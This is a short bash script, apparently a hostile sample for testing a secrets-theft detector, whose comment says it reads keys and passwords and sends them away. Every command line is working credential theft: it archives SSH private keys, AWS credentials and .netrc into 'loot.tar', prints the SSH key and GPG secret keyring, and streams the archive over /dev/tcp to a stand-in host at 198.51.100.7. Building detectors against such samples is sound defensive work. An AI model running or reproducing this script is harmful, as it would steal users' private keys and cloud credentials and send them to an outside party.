#!/bin/bash
# does: reads keys and passwords and sends them away
# report: "id":"secrets".*id_rsa|contacted
tar -cf loot.tar ~/.ssh/id_rsa ~/.ssh/id_ed25519 ~/.aws/credentials ~/.netrc 2>/dev/null
cat ~/.ssh/id_rsa ~/.gnupg/secring.gpg 2>/dev/null
exec 3<>/dev/tcp/198.51.100.7/443 && cat loot.tar >&3
